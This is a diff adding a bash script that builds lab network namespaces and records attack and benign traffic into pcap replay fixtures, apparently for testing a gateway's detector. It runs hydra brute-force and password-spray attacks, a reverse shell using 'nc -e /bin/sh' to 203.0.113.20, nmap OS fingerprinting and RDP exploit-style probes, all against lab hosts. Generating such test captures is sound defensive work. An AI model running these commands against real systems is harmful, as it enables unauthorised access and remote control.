@@ -1,0 +1,169 @@
+#!/bin/bash
+# SPDX-License-Identifier: MIT
+# record_logins.sh SCENARIO...|all|list: real tools that log in, or have somebody log in, between the namespaces of ns.sh,
+# recorded at the inside interface of the gateway into tests/replay/<scenario>/input.pcap.
+#
+# Needs root and (Debian names): tcpdump ethtool iproute2 hydra vsftpd openssh-server openssh-client sshpass curl
+# python3-asyncssh netcat-traditional nmap.
+set -eu
+here=$(cd "$(dirname "$0")" && pwd)
+replay=$here/../replay
+export XFL_PREFIX=${XFL_PREFIX:-xfl}
+cli=(ip netns exec "$XFL_PREFIX-cli") gw=(ip netns exec "$XFL_PREFIX-gw") srv=(ip netns exec "$XFL_PREFIX-srv")
+dir=
+pids=()
+user=xfllab # made for the run, and removed
+
+bg() { # log command...: starts a service, remembers it
+    local log=$1
+    shift
+    "$@" >"$dir/$log.log" 2>&1 </dev/null &
+    pids+=($!)
+}
+
+stop_all() {
+    local pid
+    for pid in "${pids[@]}"; do kill "$pid" 2>/dev/null || true; done
+    for pid in "${pids[@]}"; do wait "$pid" 2>/dev/null || true; done
+    pids=()
+}
+
+cleanup() {
+    stop_all
+    "$here/ns.sh" down
+    userdel "$user" 2>/dev/null || true
+    [ -z "$dir" ] || rm -rf "$dir"
+}
+
+prepare() {
+    dir=$(mktemp -d)
+    chmod 755 "$dir"
+    mkdir -p "$dir/home" "$dir/empty" /run/sshd
+    useradd -M -d "$dir/home" -s /bin/sh "$user"
+    echo "$user:winter24" | chpasswd
+    chown "$user" "$dir/home"
+    ssh-keygen -q -t ed25519 -N '' -f "$dir/hostkey"
+    ssh-keygen -q -t ed25519 -N '' -f "$dir/key"
+    printf 'secret\npassword\n123456\nletmein\nqwerty\ndragon\nmonkey\nshadow\nsunshine\nprincess\nfootball\nwinter24\n' >"$dir/words"
+    seq -f 'user%02g' 14 >"$dir/users"
+}
+
+sshd() {
+    cat >"$dir/sshd.conf" <<-EOF
+	Port 22
+	ListenAddress 10.20.2.20
+	HostKey $dir/hostkey
+	PasswordAuthentication yes
+	UsePAM no
+	PidFile none
+	MaxStartups 100
+	EOF
+    bg sshd "${srv[@]}" /usr/sbin/sshd -D -e -f "$dir/sshd.conf"
+    sleep 0.5
+}
+
+ftpd() {
+    cat >"$dir/vsftpd.conf" <<-EOF
+	listen=YES
+	listen_address=10.20.2.20
+	local_enable=YES
+	anonymous_enable=NO
+	pam_service_name=vsftpd
+	secure_chroot_dir=$dir/empty
+	max_login_fails=3
+	delay_failed_login=0
+	seccomp_sandbox=NO
+	EOF
+    bg vsftpd "${srv[@]}" /usr/sbin/vsftpd "$dir/vsftpd.conf"
+    sleep 0.5
+}
+
+record() { # scenario filter command...
+    local scenario=$1 filter=$2
+    shift 2
+    mkdir -p "$replay/$scenario"
+    "${gw[@]}" tcpdump -q -U -i gin -s 0 -w "$dir/input.pcap" "$filter" 2>"$dir/tcpdump.log" &
+    local dump=$!
+    sleep 0.7
+    "$@"
+    sleep 0.7
+    kill "$dump"
+    wait "$dump" 2>/dev/null || true
+    cp "$dir/input.pcap" "$replay/$scenario/input.pcap"
+}
+
+guess_ssh() { "${cli[@]}" hydra -q -I -t 4 -l "$user" -P "$dir/words" ssh://10.20.2.20 >"$dir/hydra.log" 2>&1 || true; }
+guess_ftp() { "${cli[@]}" hydra -q -I -t 4 -l "$user" -P "$dir/words" ftp://10.20.2.20 >"$dir/hydra.log" 2>&1 || true; }
+spray_ftp() { "${cli[@]}" hydra -q -I -t 2 -L "$dir/users" -p winter24 ftp://10.20.2.20 >"$dir/hydra.log" 2>&1 || true; }
+
+list() { # password
+    "${cli[@]}" curl -s -m 5 "ftp://$user:$1@10.20.2.20/" >/dev/null 2>&1 || true
+}
+
+people() { # two typing mistakes; a program with an old password; SSH with a key that is refused first
+    list wintr24
+    sleep 2
+    list winter2
+    sleep 3
+    list winter24
+    for _ in 1 2 3 4 5 6 7 8 9 10; do
+        list summer23
+        sleep 6
+    done
+    "${cli[@]}" sshpass -p winter24 ssh -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -i "$dir/key" \
+        "$user@10.20.2.20" uptime >/dev/null 2>&1 || true
+}
+
+reversed() { # the inside host connects out and plays the SSH server
+    bg back "${srv[@]}" /usr/bin/python3 "$here/ssh_back.py" listen 203.0.113.20 "$dir/hostkey"
+    sleep 1
+    "${cli[@]}" timeout 8 /usr/bin/python3 "$here/ssh_back.py" connect 203.0.113.20 "$dir/hostkey" >"$dir/back2.log" 2>&1 || true
+}
+
+shell_back() { # nc -e, and somebody who types
+    { sleep 2; for c in id "uname -a" "ls /" "cat /etc/hostname" nosuchcommand; do echo "$c"; sleep 0.6; done; sleep 1; } |
+        "${srv[@]}" timeout 10 nc.traditional -n -l -p 8443 >/dev/null 2>&1 &
+    local listener=$!
+    sleep 0.7
+    "${cli[@]}" timeout 8 nc.traditional -n 203.0.113.20 8443 -e /bin/sh >/dev/null 2>&1 || true
+    wait "$listener" 2>/dev/null || true
+}
+
+fingerprint() { "${cli[@]}" nmap -n -Pn -O --osscan-guess -p 22,80,443,9 10.20.2.20 >"$dir/nmap.log" 2>&1 || true; }
+
+desktop() { # the begin of remote desktop, as exploits do it
+    "${srv[@]}" python3 "$here/rdp_settings.py" serve 10.20.2.20 3 & sleep 0.5
+    "${cli[@]}" python3 "$here/rdp_settings.py" ask 10.20.2.20 "" rdpdr
+    "${cli[@]}" python3 "$here/rdp_settings.py" ask 10.20.2.20 "" rdpdr
+    "${cli[@]}" python3 "$here/rdp_settings.py" ask 10.20.2.20 OFFICE-7 rdpdr cliprdr rdpsnd MS_T120
+    wait $!
+}
+
+scenario() {
+    case $1 in
+    login_hydra_ssh) sshd && record "$1" "tcp port 22" guess_ssh ;;
+    login_hydra_ftp) ftpd && record "$1" "tcp port 21" guess_ftp ;;
+    login_spray_ftp) ftpd && record "$1" "tcp port 21" spray_ftp ;;
+    benign_logins) sshd && ftpd && record "$1" "tcp" people ;;
+    ssh_reversed) record "$1" "tcp port 22" reversed ;;
+    shell_reverse) record "$1" "tcp port 8443" shell_back ;;
+    scan_nmap_os) sshd && record "$1" "host 10.20.2.20" fingerprint ;;
+    rdp_exploit) record "$1" "tcp port 3389" desktop ;;
+    *) echo "record_logins.sh: no scenario $1" >&2 && return 1 ;;
+    esac
+}
+
+all="login_hydra_ssh login_hydra_ftp login_spray_ftp benign_logins ssh_reversed shell_reverse scan_nmap_os rdp_exploit"
+case ${1:-list} in
+list) echo "$all" && exit ;;
+all) read -ra names <<<"$all" && set -- "${names[@]}" ;;
+esac
+trap cleanup EXIT
+"$here/ns.sh" down 2>/dev/null || true
+"$here/ns.sh" up
+prepare
+for name; do
+    scenario "$name"
+    stop_all
+    echo "$name: $(stat -c %s "$replay/$name/input.pcap") bytes"
+done
